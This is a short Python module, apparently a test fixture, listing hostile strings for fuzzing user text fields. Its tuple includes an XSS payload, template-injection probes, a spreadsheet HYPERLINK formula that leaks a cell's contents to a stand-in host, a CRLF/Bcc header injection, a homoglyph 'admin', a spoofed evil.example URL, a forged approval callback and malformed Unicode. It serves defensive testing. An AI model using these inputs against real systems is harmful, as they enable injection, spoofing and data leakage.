"""Texts that nobody sends by mistake, for every place where people may type."""

from __future__ import annotations

FAMILY = "👩🏽\u200d👩🏾\u200d👧\u200d👦"

HOSTILE = (
    "<img src=x onerror=alert(1)>",
    "{{7*7}} %(name)s {name} ${x}",
    "\u202etxt.exe",
    "open \u2067",
    "/for\u200bget",
    "ا" + "\u064b" * 500,
    "\ufdfa" * 4096,
    "\ud83d",
    "a\0b",
    "9223372036854775808",
    "7" * 5000,
    "[" * 100_000,
    (FAMILY * 400)[:2000],
    '=HYPERLINK("//x?"&A1)',
    "＝1",
    "\t=1",
    "علي\r\nBcc: x@y",
    "аdmin",
    "https://t.me@evil.example",
    "_*[`~>#|{}.!",
    '<a href="tg://user?id=1">',
    "٣٢١",
    "²",
    "q:999:approve",
    "%_\\'--",
    "",
    " \n\t ",
    "\u200b\ufeff",
    "?",
    "٪",
    "\U000e0041\U0010ffff\ufffe",
)
